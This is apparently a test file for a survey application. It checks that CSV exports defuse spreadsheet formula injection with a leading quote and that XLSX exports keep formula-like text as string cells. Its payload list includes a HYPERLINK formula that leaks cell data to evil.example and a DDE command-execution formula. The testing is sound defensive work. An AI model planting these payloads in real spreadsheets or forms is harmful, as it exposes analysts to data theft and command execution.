// Spreadsheet formula injection (OWASP "CSV injection"): a respondent types `=HYPERLINK(...)` in a
// comment, an organizer writes `@SUM(1)` in a label. In CSV, a spreadsheet runs a cell starting
// with = + - @ (or a tab or a carriage return), so those texts go out behind a quote. In XLSX a
// string cell is never a formula (a formula is a cell type of its own): texts are stored as string
// cells, exactly as typed, with no quote for the analyst to read.
import { Writable } from 'node:stream';
import { expect } from 'chai';
import ExcelJS from 'exceljs';
import mongoose from 'mongoose';
import { readCsv } from '../integration/exports/export-csv';
import { startTestApp, type TestApp } from '../support/app';
import { Browser, pageIdOf } from '../support/browser';
import { apiTokenFor, createStaff, signedInFetch, type CookieFetch } from '../support/staff';
import { CAPTIC_ID, NON_USER_PAGES } from '../fixtures/captic-answers';
import { writeTablesWorkbook } from '../../server/exports/tables-workbook';
import type { Figures } from '../../server/analysis/figures/figures.types';
import type { TSurveyDefinition } from '../../server/surveys/survey.schemas';

/** Texts a spreadsheet would run, each typed by one respondent in the survey's comment box. */
const PAYLOADS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(1)',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
  '=cmd|\' /C calc\'!A0',
];
const WAVE_URL = `/admin/surveys/${CAPTIC_ID}/waves/current`;

/** Completes the survey as a respondent who typed `comment` on the page that asks for one. */
async function respondWith(app: TestApp, comment: string): Promise<void> {
  const browser = new Browser(app.url);
  let page = await browser.submit(await browser.open(`/s/${CAPTIC_ID}`), { consent: 'yes' });
  for (let steps = 0; steps < 12 && pageIdOf(page); steps += 1) {
    const pageId = pageIdOf(page)!;
    page = await browser.submit(page, { ...NON_USER_PAGES[pageId], ...(pageId === 'captic_project' ? { comments: comment } : {}) });
  }
  expect(pageIdOf(page), page.html.slice(0, 300)).to.equal(undefined);
}

/** A cell's text when the spreadsheet holds it as a plain string, or a description of what else it is. */
function stringCell(cell: ExcelJS.Cell): string {
  if (cell.type !== ExcelJS.ValueType.String) return `<not a string cell: type ${cell.type}, formula ${String(cell.formula)}>`;
  return cell.value as string;
}

async function workbookOf(bytes: ArrayBuffer | Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as ArrayBuffer);
  return workbook;
}

describe('Formula injection in exports: CSV behind a quote, XLSX as string cells typed as is', function () {
  this.timeout(60_000);
  let app: TestApp;
  let analyst: CookieFetch;
  /** Each respondent's comment as stored (what the exports must show). */
  let stored: string[];

  before(async () => {
    app = await startTestApp();
    await app.reset();
    for (const payload of PAYLOADS) await respondWith(app, payload);
    const responses = await mongoose.connection.collection('responses').find({ surveyId: CAPTIC_ID, status: 'complete' }).sort({ completedAt: 1 }).toArray();
    stored = responses.map((r) => (r.answers as Record<string, string>).comments ?? '');
    const staff = await createStaff(app, { email: 'analyst@example.org', role: 'analyst', grants: [CAPTIC_ID] });
    analyst = await signedInFetch(app, staff);
  });
  after(async () => app.close());

  it('stores what the respondents typed (a comment keeps its formula-like text)', () => {
    // Leading white space may be trimmed by the form; the formula characters are kept.
    expect(stored).to.have.length(PAYLOADS.length);
    expect(stored.filter((text) => PAYLOADS.includes(text)).length).to.be.greaterThan(6);
  });

  it('writes each of them in CSV behind a single quote', async () => {
    const { rows } = readCsv(await (await analyst(`${WAVE_URL}/export.csv`)).text());
    const comments = rows.map((row) => row.comments);
    expect(comments).to.deep.equal(stored.map((text) => (/^'*[=+\-@\t\r]/.test(text) ? `'${text}` : text)));
    expect(comments).to.include(`'=1+1`).and.to.include(`''=1+1`);
  });

  it('writes each of them in XLSX as a string cell, exactly as stored, never as a formula', async () => {
    const workbook = await workbookOf(await (await analyst(`${WAVE_URL}/export.xlsx`)).arrayBuffer());
    const sheet = workbook.getWorksheet('Responses')!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const column = header.indexOf('comments') + 1;
    const comments: string[] = [];
    for (let row = 2; row <= sheet.rowCount; row += 1) comments.push(stringCell(sheet.getRow(row).getCell(column)));
    expect(comments).to.deep.equal(stored);
    expect(comments).to.include('=HYPERLINK("http://evil.example/?leak="&A1,"Click")').and.to.include('@SUM(1)');
  });

  it('writes the tables workbook\'s texts (question texts, option labels) as string cells, as written', async () => {
    // An organizer's wording, in a definition: the workbook writer is fed one whose texts start like formulas.
    const definition = structuredClone(app.catalog.require(CAPTIC_ID).definition) as TSurveyDefinition;
    const question = definition.pages.flatMap((p) => p.questions).find((q) => q.id === 'company_size')!;
    question.text = { fr: '=1+1', en: '=HYPERLINK("http://evil.example","Size")' };
    const options = (question as { options: Array<{ label: Record<string, string> }> }).options;
    options[0]!.label = { fr: '@SUM(1)', en: '@SUM(1)' };
    options[1]!.label = { fr: '-1', en: '-1' };
    const token = await apiTokenFor(await createStaff(app, { email: 'reader@example.org', role: 'analyst', grants: [CAPTIC_ID] }));
    const res = await fetch(`${app.url}/api/v1/surveys/${CAPTIC_ID}/waves/current/figures?by=company_size&adjust=none`, { headers: { authorization: `Bearer ${token}` } });
    expect(res.status).to.equal(200);
    const chunks: Buffer[] = [];
    const out = new Writable({ write(chunk: Buffer, _encoding, done) { chunks.push(chunk); done(); } });
    await writeTablesWorkbook({ definition, lang: 'en', banners: [{ by: 'company_size', figures: (await res.json()) as Figures }] }, out);

    const texts: string[] = [];
    let formulas = 0;
    (await workbookOf(Buffer.concat(chunks))).eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => {
      if (cell.type === ExcelJS.ValueType.Formula) formulas += 1;
      if (cell.type === ExcelJS.ValueType.String) texts.push(cell.value as string);
    })));
    expect(formulas).to.equal(0);
    expect(texts).to.include('=HYPERLINK("http://evil.example","Size")');
    expect(texts.some((text) => text.startsWith('@SUM(1)'))).to.equal(true);
    expect(texts.some((text) => text.startsWith('-1'))).to.equal(true);
    expect(texts.filter((text) => text.startsWith("'"))).to.deep.equal([]);
  });
});
